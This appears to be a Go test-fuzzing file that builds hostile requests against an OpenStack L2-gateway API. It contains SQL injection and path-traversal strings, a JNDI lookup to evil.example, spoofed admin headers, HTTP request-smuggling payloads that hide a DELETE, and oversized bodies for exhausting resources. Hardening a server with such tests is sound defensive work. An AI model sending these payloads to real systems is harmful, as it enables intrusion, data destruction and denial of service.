package hostile

import (
	"fmt"
	"net/url"
	"strings"
)

// texts are values for ids, filters and whatever else is text in a URL.
var texts = []string{
	"", "x", "None", "null", "00000000-0000-0000-0000-000000000000", "' OR '1'='1", "'; DROP TABLE gateways; --", `" OR ""="`, "1 UNION SELECT * FROM leases", "%", "_%", `\`, `\'`,
	"\x00", "a\x00b", "\xff\xfe", "\xed\xa0\x80", "😀", "ﬀ", "\u202e", "\r\nX-Injected: 1", "../../etc/passwd", "..", ".", ".json", "{id}", "-1", "1e400", "99999999999999999999", "true", "[]", "{}",
	strings.Repeat("x", 4000), strings.Repeat("é", 1000), "$(id)", "<script>alert(1)</script>", "%00", "%zz", "a/b", "a;b=c", "a&b", "a=b", "*", "?", "#", "+", "\t",
}

var parameters = []string{
	"id", "name", "tenant_id", "project_id", "network_id", "l2_gateway_id", "segmentation_id", "status", "created_at", "devices", "revision_number", "description",
	"limit", "marker", "page_reverse", "sort_key", "sort_dir", "fields", "foo", "",
}

// inURLs are requests with odd paths and queries.
func inURLs(w *world) (all []request) {
	escape := func(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") }
	for _, collection := range []string{"l2-gateways", "l2-gateway-connections", "networks", "ports", "l2-gateway-devices"} {
		for i, p := range parameters {
			for j, v := range texts {
				if collection != "l2-gateways" && collection != "l2-gateway-connections" && (i+j)%5 != 0 {
					continue
				}
				all = append(all, form(fmt.Sprintf("%s?%s=%.20q", collection, p, v), "GET", "/v2.0/"+collection+"?"+p+"="+escape(v), ""))
			}
		}
	}
	for _, method := range []string{"GET", "PUT", "DELETE"} {
		for _, collection := range []string{"l2-gateways", "l2-gateway-connections", "networks", "l2-gateway-devices", "quotas", "extensions"} {
			for i, v := range texts {
				if v == "" || method != "GET" && collection == "quotas" && i%4 != 0 {
					continue
				}
				body := ""
				if method == "PUT" {
					body = `{"` + strings.ReplaceAll(strings.TrimSuffix(collection, "s"), "-", "_") + `": {}}`
				}
				all = append(all, form(fmt.Sprintf("%s %s/%.20q", method, collection, v), method, "/v2.0/"+collection+"/"+escape(v), body))
			}
		}
	}
	for _, query := range []string{
		"%", "%z", "%%%", "&&&&", "=", "=&=", "limit", "limit=", "limit=5&limit=x", "limit=1&limit=-1", "marker=x&marker=y", "sort_key=id", "sort_key=id&sort_dir=up", "sort_dir=asc",
		"sort_key=devices&sort_dir=asc", strings.Repeat("sort_key=id&sort_dir=asc&", 500), strings.Repeat("id=x&", 3000), strings.Repeat("a=1&", 9000),
		strings.Repeat("fields=name&", 2000), "fields=devices&fields=", "id=" + strings.Repeat("x", 40_000), "page_reverse=maybe", "limit=99999999999999999999", "limit=9223372036854775807", "limit=1.0", "limit=+1", "limit=0x1", "limit=%EF%BC%95",
		"marker=" + w.gateways[0] + "&limit=1&page_reverse=True&sort_key=name&sort_dir=desc", "limit=1&marker=" + w.connections[0],
	} {
		all = append(all, form(fmt.Sprintf("query %.30q", query), "GET", "/v2.0/l2-gateways?"+query, ""))
	}
	for _, path := range []string{
		"//", "//v2.0/l2-gateways", "/v2.0//l2-gateways", "/v2.0/./l2-gateways", "/v2.0/../v2.0/l2-gateways", "/v2.0/l2-gateways/..", "/v2.0/l2-gateways/../l2-gateways", "/../../etc/passwd",
		"/v2.0/l2-gateways/%2e%2e", "/v2.0/%2e%2e/v2.0/l2-gateways", "/v2.0/l2-gateways%2f" + w.gateways[0], "/v2.0%2fl2-gateways", "/v2.0/l2-gateways/" + w.gateways[0] + "/", "/v2.0/l2-gateways/" + w.gateways[0] + "/x",
		"/v2.0/l2-gateways/" + strings.ToUpper(w.gateways[0]), "/v2.0/L2-Gateways", "/V2.0/l2-gateways", "/v2.0/l2-gateways.xml", "/v2.0/l2-gateways.json.json", "/v2.0/l2-gateways/" + w.gateways[0] + ".json",
		"/v2.0/l2-gateways/" + w.gateways[0] + "%00", "/v2.0/l2-gateways/" + w.gateways[0] + "%20", "/v2.0/l2-gateways;x=1", "/v2.0/l2-gateways/;", "/v2.1/l2-gateways", "/v3/", "/favicon.ico", "/robots.txt",
		"/v2.0/l2_gateways", "/v2.0/l2-gateways//", "/v2.0/" + strings.Repeat("a/", 2000), "/" + strings.Repeat("x", 20_000), "/%ff%fe", "/%00", "/v2.0/l2-gateways/%F0%9F%98%80", "/debug/pprof/", "/metrics/../v2.0/l2-gateways", "/.git/config",
	} {
		for _, method := range []string{"GET", "DELETE", "OPTIONS"} {
			if strings.Contains(path, w.gateways[0]) && method == "DELETE" {
				method = "PATCH" // some of them do name a gateway
			}
			all = append(all, form(fmt.Sprintf("%s %.40s", method, path), method, path, ""))
		}
	}
	for _, method := range []string{"FOO", "TRACE", "PATCH", "HEAD", "CONNECT", "get", "GETT", "PROPFIND", "COPY", "M-SEARCH", "QUERY", strings.Repeat("X", 2000)} {
		for _, path := range []string{"/v2.0/l2-gateways", "/v2.0/l2-gateways/" + w.gateways[0], "/v2.0/l2-gateway-connections/" + w.connections[0], "/"} {
			all = append(all, form(method[:min(len(method), 20)]+" "+path, method, path, ""))
		}
	}
	for _, h := range []string{
		"X-Roles: admin", "X-User-Id: root", "X-Project-Id: other", "X-Tenant-Id: other", "X-Is-Admin-Project: False", "X-Identity-Status: Invalid", "X-Identity-Status: Confirmed", "X-Service-Roles: service", "X-Domain-Id: d",
		"X-Auth-Token: ' OR '1'='1", "X-Auth-Token: " + strings.Repeat("x", 10_000), "X-Service-Token: x", "Authorization: Basic eDp5", "X-Forwarded-For: 1.2.3.4", "X-Forwarded-Host: evil.example", "X-Original-URL: /v2.0/networks",
		"X-HTTP-Method-Override: DELETE", "X-Openstack-Request-Id: req-x\tlevel=ERROR", "X-Openstack-Request-Id: " + strings.Repeat("r", 5000), "Accept: application/xml", "Accept-Encoding: nonsense;q=x", "Range: bytes=0-1", "If-Match: x",
		"Cookie: " + strings.Repeat("a=b; ", 1000), "User-Agent: ${jndi:ldap://evil.example/a}", "Referer: \"><script>", "Upgrade: websocket", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA", "Expect: nonsense", "TE: trailers",
	} {
		all = append(all,
			form(fmt.Sprintf("reading with %.40s", h), "GET", "/v2.0/l2-gateways?fields=id", "", h),
			form(fmt.Sprintf("deleting what is in use with %.40s", h), "DELETE", "/v2.0/l2-gateways/"+w.gateways[0], "", h),
		)
	}
	return all
}

// onTheWire are requests whose very form is wrong, or only looks as if it were.
func onTheWire(w *world) (all []request) {
	gateway := `{"l2_gateway": {"devices": [{"device_name": "sw9", "interfaces": [{"name": "eth1", "segmentation_id": ["9999"]}]}]}}` // wrong, so that it is refused
	raw := func(name, text string) { all = append(all, request{name: name, method: "POST", bytes: []byte(text)}) }
	post := "POST /v2.0/l2-gateways HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
	smuggled := "DELETE /v2.0/l2-gateways/" + w.gateways[1] + " HTTP/1.1\r\nHost: x\r\n\r\n"
	for name, text := range map[string]string{
		"two Content-Lengths":                   post + "Content-Length: 5\r\nContent-Length: 6\r\n\r\n{}    ",
		"two Content-Lengths in one":            post + "Content-Length: 5, 6\r\n\r\n{}    ",
		"the same Content-Length twice":         post + "Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
		"a negative Content-Length":             post + "Content-Length: -1\r\n\r\n{}",
		"a signed Content-Length":               post + "Content-Length: +2\r\n\r\n{}",
		"a Content-Length that is no number":    post + "Content-Length: 0x2\r\n\r\n{}",
		"a Content-Length beyond all":           post + "Content-Length: 99999999999999999999\r\n\r\n{}",
		"an empty Content-Length":               post + "Content-Length: \r\n\r\n",
		"a Content-Length of 10 GB":             post + "Content-Length: 10000000000\r\n\r\n{}",
		"both lengths":                          post + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"both lengths, something hidden":        post + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
		"chunked twice":                         post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled,
		"chunked, identity":                     post + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + smuggled,
		"gzip, chunked":                         post + "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
		"an unknown Transfer-Encoding":          post + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + smuggled,
		"a Transfer-Encoding with a tab":        post + "Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n",
		"a Transfer-Encoding with a space":      post + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + smuggled,
		"a folded Transfer-Encoding":            post + "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + smuggled,
		"a chunk's size that is no number":      post + "Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
		"a chunk's size that is negative":       post + "Transfer-Encoding: chunked\r\n\r\n-2\r\n{}\r\n0\r\n\r\n",
		"a chunk's size beyond all":             post + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n{}\r\n0\r\n\r\n",
		"a chunk's size with 0x":                post + "Transfer-Encoding: chunked\r\n\r\n0x2\r\n{}\r\n0\r\n\r\n",
		"a chunk longer than its size":          post + "Transfer-Encoding: chunked\r\n\r\n1\r\n{}\r\n0\r\n\r\n",
		"a chunk without its end":               post + "Transfer-Encoding: chunked\r\n\r\n2\r\n{}0\r\n\r\n",
		"chunks with line feeds alone":          post + "Transfer-Encoding: chunked\r\n\r\n2\n{}\n0\n\n",
		"a chunk with an extension":             post + "Transfer-Encoding: chunked\r\n\r\n2;a=b\r\n{}\r\n0\r\n\r\n",
		"a chunk with a long extension":         post + "Transfer-Encoding: chunked\r\n\r\n2;" + strings.Repeat("a", 100_000) + "\r\n{}\r\n0\r\n\r\n",
		"thousands of small chunks":             post + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat("1;xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\r\n \r\n", 20_000) + "0\r\n\r\n",
		"trailers":                              post + "Transfer-Encoding: chunked\r\nTrailer: X-Roles\r\n\r\n2\r\n{}\r\n0\r\nX-Roles: admin\r\n\r\n",
		"trailers that are lengths":             post + "Transfer-Encoding: chunked\r\nTrailer: Content-Length\r\n\r\n2\r\n{}\r\n0\r\nContent-Length: 100\r\n\r\n",
		"trailers without end":                  post + "Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n" + strings.Repeat("X: y\r\n", 100_000),
		"chunked 10 MB":                         post + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat("10000\r\n"+strings.Repeat("x", 0x10000)+"\r\n", 160) + "0\r\n\r\n",
		"no Host":                               "GET /v2.0/l2-gateways HTTP/1.1\r\n\r\n",
		"two Hosts":                             "GET /v2.0/l2-gateways HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
		"a Host that is none":                   "GET /v2.0/l2-gateways HTTP/1.1\r\nHost: x y/<z>\r\n\r\n",
		"an empty Host":                         "GET /v2.0/l2-gateways?limit=1 HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n",
		"an absolute URL":                       "GET http://evil.example/v2.0/l2-gateways?limit=1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
		"an absolute URL with a password":       "GET http://u:p@x/v2.0/l2-gateways HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
		"a file's URL":                          "GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
		"an asterisk":                           "OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
		"reading an asterisk":                   "GET * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
		"no slash":                              "GET v2.0/l2-gateways HTTP/1.1\r\nHost: x\r\n\r\n",
		"CONNECT":                               "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n",
		"a fragment":                            "GET /v2.0/l2-gateways#x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
		"HTTP/0.9":                              "GET /v2.0/l2-gateways\r\n\r\n",
		"HTTP/1.2":                              "GET /v2.0/l2-gateways HTTP/1.2\r\nHost: x\r\nConnection: close\r\n\r\n",
		"HTTP/2.0":                              "GET /v2.0/l2-gateways HTTP/2.0\r\nHost: x\r\n\r\n",
		"HTTP/2 in the clear":                   "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
		"HTTP/9.9":                              "GET / HTTP/9.9\r\nHost: x\r\n\r\n",
		"HTTP/1.1 in small letters":             "GET / http/1.1\r\nHost: x\r\n\r\n",
		"TLS":                                   "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + strings.Repeat("\x00", 600) + "\r\n\r\n",
		"only spaces":                           "   \r\n\r\n",
		"empty lines":                           "\r\n\r\n\r\n\r\n",
		"NUL bytes":                             strings.Repeat("\x00", 1000) + "\r\n\r\n",
		"a path with a space":                   "GET /v2.0/l2 gateways HTTP/1.1\r\nHost: x\r\n\r\n",
		"a path with NUL":                       "GET /v2.0/\x00 HTTP/1.1\r\nHost: x\r\n\r\n",
		"a path that is not ASCII":              "GET /v2.0/\xff\xfe\xc3\xbc HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
		"a bad escape in the path":              "GET /v2.0/%zz HTTP/1.1\r\nHost: x\r\n\r\n",
		"a header without a colon":              "GET / HTTP/1.1\r\nHost: x\r\nnonsense\r\n\r\n",
		"a header without a name":               "GET / HTTP/1.1\r\nHost: x\r\n: x\r\n\r\n",
		"a header's name with a space":          "GET / HTTP/1.1\r\nHost: x\r\nX Y: z\r\n\r\n",
		"a header with NUL":                     "GET / HTTP/1.1\r\nHost: x\r\nX: a\x00b\r\n\r\n",
		"a header with a carriage return":       "GET / HTTP/1.1\r\nHost: x\r\nX: a\rSet-Cookie: b\r\n\r\n",
		"a folded header":                       "GET /v2.0/l2-gateways?limit=1 HTTP/1.1\r\nHost: x\r\nX: a\r\n b\r\nConnection: close\r\n\r\n",
		"line feeds alone":                      "GET /v2.0/l2-gateways?limit=1 HTTP/1.1\nHost: x\nConnection: close\n\n",
		"a header of 100 KB":                    "GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("x", 100_000) + "\r\n\r\n",
		"twenty thousand headers":               "GET / HTTP/1.1\r\nHost: x\r\n" + strings.Repeat("X: y\r\n", 20_000) + "\r\n",
		"a line of 1 MB":                        "GET /" + strings.Repeat("x", 1<<20) + " HTTP/1.1\r\nHost: x\r\n\r\n",
		"a query of 1 MB":                       "GET /v2.0/l2-gateways?" + strings.Repeat("a", 1<<20) + " HTTP/1.1\r\nHost: x\r\n\r\n",
		"Expect what nobody can":                post + "Expect: 200-maybe\r\nContent-Length: 2\r\n\r\n{}",
		"Expect: 100-continue":                  post + "Expect: 100-continue\r\nContent-Length: 2\r\n\r\n{}",
		"Expect: 100-continue, too much":        post + "Expect: 100-continue\r\nContent-Length: 20000000\r\n\r\n",
		"a body where there is none":            "GET /v2.0/l2-gateways?limit=1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 5\r\n\r\nhello",
		"a body with DELETE":                    "DELETE /v2.0/l2-gateways/nosuch HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 5\r\n\r\nhello",
		"gzip":                                  post + "Content-Encoding: gzip\r\nContent-Length: 20\r\n\r\n\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x01\x00\x00\xff\xff\x00\x00\x00\x00\x00",
		"a form":                                post + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\n\r\na=b",
		"several parts":                         post + "Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 10\r\n\r\n--x--\r\n\r\n ",
		"a type that is none":                   post + "Content-Type: ;;;\r\nContent-Length: 2\r\n\r\n{}",
		"UTF-16":                                post + "Content-Type: application/json; charset=utf-16\r\nContent-Length: 4\r\n\r\n{\x00}\x00",
		"pipelined nonsense":                    "GET /v2.0/l2-gateways?limit=1 HTTP/1.1\r\nHost: x\r\n\r\nnonsense\r\n\r\n",
		"HTTP/1.0":                              "GET /v2.0/l2-gateways?limit=1 HTTP/1.0\r\n\r\n",
		"HTTP/1.0 that stays, pipelined":        "GET /v2.0/l2-gateways?limit=1 HTTP/1.0\r\nConnection: keep-alive\r\n\r\nGET / HTTP/1.0\r\n\r\n",
		"HTTP/1.0 with chunks":                  "POST /v2.0/l2-gateways HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"HTTP/1.0 without a length":             "POST /v2.0/l2-gateways HTTP/1.0\r\n\r\n" + gateway,
		"Connection names what matters":         post + "Connection: Content-Length, Host\r\nContent-Length: 2\r\n\r\n{}",
		"a page of another site":                post + "Origin: https://evil.example\r\nContent-Length: 2\r\n\r\n{}",
		"10 MB":                                 post + "Content-Length: 10000000\r\n\r\n" + strings.Repeat("x", 10_000_000),
		"10 MB of brackets":                     post + "Content-Length: 10000000\r\n\r\n" + strings.Repeat("[", 10_000_000),
		"1 MB of brackets":                      post + "Content-Length: 1000000\r\n\r\n" + strings.Repeat("[", 1_000_000),
		"10,000 nested lists":                   post + "Content-Length: 20000\r\n\r\n" + strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000),
		"1 MB of small lists":                   post + "Content-Length: 1000002\r\n\r\n[" + strings.Repeat("[],", 333_333) + "0]",
		"1 MB of keys":                          post + "Content-Length: " + fmt.Sprint(len(keys(60_000))) + "\r\n\r\n" + keys(60_000),
		"an upgrade to HTTP/2":                  "GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n",
		"an upgrade to a web socket":            "GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
		"a body in a body":                      post + "Content-Length: " + fmt.Sprint(len(smuggled)) + "\r\n\r\n" + smuggled,
		"a hidden request behind a short body":  post + "Content-Length: 2\r\n\r\n{}" + smuggled,
		"a hidden request behind a Host":        "GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\nX: \r\n\r\n" + smuggled,
		"a request that ends in its first line": "GET /v2.0/l2-gat",
		"a request that ends in a header":       "GET / HTTP/1.1\r\nHo",
		"a body that ends early":                post + "Content-Length: 100\r\n\r\n{\"l2_gat",
		"chunks that end early":                 post + "Transfer-Encoding: chunked\r\n\r\n50\r\n{\"l2",
		"nothing":                               "",
	} {
		raw(name, text)
	}
	for i := range all { // what is not complete ends, so that the server need not wait for more
		for _, partial := range []string{"early", "that ends in", "nothing", "without end", "of 10 GB"} {
			all[i].half = all[i].half || strings.Contains(all[i].name, partial)
		}
	}
	return all
}

// keys is an object with as many keys.
func keys(n int) string {
	var b strings.Builder
	b.WriteString("{")
	for i := range n {
		fmt.Fprintf(&b, `"k%d":0,`, i)
	}
	return b.String() + `"x":0}`
}
